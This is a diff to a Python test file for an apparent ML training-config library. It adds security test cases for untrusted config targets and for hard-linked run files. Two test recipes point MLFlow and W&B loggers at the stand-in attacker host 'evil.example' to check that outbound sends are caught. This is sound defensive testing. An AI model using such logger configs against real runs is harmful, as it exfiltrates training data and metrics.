@@ -24,6 +24,8 @@ from hydralight.config.trust import check_trust, origins
 from hydralight.config.typed import Typed
 from hydralight.errors import UserError
 from hydralight.metrics.evaluate import Evaluate
+from hydralight.runs.files import append_text, refuse_links
+from hydralight.runs.lock import locked
 from hydralight.runs.logs import RunLog
 from hydralight.runs.overrides import with_groups_off
 from hydralight.runs.secrets import redact
@@ -208,6 +210,30 @@ RECIPES = {
         "task: {loss: {_target_: hydralight.callbacks.predictions.write_json_lines,"
         " path: GUARDED/x, rows: []}}",
         PLACE,
+    ),
+    "a folder's maker as a source": (
+        "data: {source: {_target_: hydralight.data.encoding.cache_folder}}", LISTED
+    ),
+    "a folder's maker as a tokenizer": (
+        "tokenizer: {_target_: hydralight.data.encoding.cache_folder}", LISTED
+    ),
+    "a reader as a source": ("data: {source: hydralight.data.read.files.read_local}", LISTED),
+    "a function that is called later": (
+        "task: {loss: {_target_: hydralight.callbacks.predictions.write_json_lines}}", LISTED
+    ),
+    "a class's own function": (
+        "callbacks: {x: {_target_: lightning.pytorch.callbacks.ModelCheckpoint.state_dict}}",
+        LISTED,
+    ),
+    "a logger among callbacks": (
+        "callbacks: {x: {_target_: lightning.pytorch.loggers.MLFlowLogger,"
+        " tracking_uri: evil.example}}",
+        SENDS,
+    ),
+    "W&B among callbacks": (
+        "callbacks: {x: {_target_: lightning.pytorch.loggers.WandbLogger,"
+        " settings: {base_url: evil.example}}}",
+        SENDS,
     ),
     "a profiler": (
         "trainer: {profiler: {_target_: lightning.pytorch.profilers.SimpleProfiler,"
@@ -652,6 +678,32 @@ def test_a_projects_file_that_is_somebody_elses(tmp_path, monkeypatch):
     if (tmp_path / "pyproject.toml").stat().st_uid == 0:
         os.chown(tmp_path / "pyproject.toml", 54321, -1)
     assert not list(project._of_checkout())
+
+
+def test_a_hard_link_in_a_run(guarded, trained, tmp_path):
+    """What is also somebody's elsewhere, or a backup's, is copied before it is written to."""
+    run = shutil.copytree(trained, tmp_path / "run", copy_function=os.link)
+    before = {path: path.read_bytes() for path in trained.rglob("*") if path.is_file()}
+    (run / ".lock").unlink(missing_ok=True)
+    os.link(guarded / "thesis.txt", run / ".lock")
+    hydralight.train([f"resume={run}", "trainer.max_epochs=2"])
+    assert {path: path.read_bytes() for path in trained.rglob("*") if path.is_file()} == before
+
+
+def test_a_file_that_is_written_in_place_is_the_runs_own(tmp_path):
+    """A log is opened and a folder locked before anybody has looked through it."""
+    (tmp_path / "mine").write_text("mine")
+    (tmp_path / "run").mkdir()
+    for name in ("train.log", ".lock", "metrics.csv"):
+        os.link(tmp_path / "mine", tmp_path / "run" / name)
+    log = RunLog(tmp_path / "run/train.log")
+    log.stream.write("more")
+    log.close()
+    with locked(tmp_path / "run"):
+        pass
+    append_text(tmp_path / "run/metrics.csv", "x")
+    assert (tmp_path / "mine").read_text() == "mine"
+    assert (tmp_path / "run/train.log").read_text() == "minemore"
 
 
 def test_a_log_file_that_is_a_link_is_not_followed(tmp_path):
